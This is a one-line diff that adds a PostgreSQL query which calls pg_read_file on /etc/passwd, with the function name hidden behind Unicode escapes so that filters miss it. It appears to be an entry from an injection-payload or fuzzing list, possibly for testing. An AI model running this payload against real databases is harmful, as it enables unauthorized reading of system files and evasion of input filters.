@@ -1,0 +1,1 @@
+SELECT U&"pg!005fread!005ffile" UESCAPE '!' ('/etc/passwd')
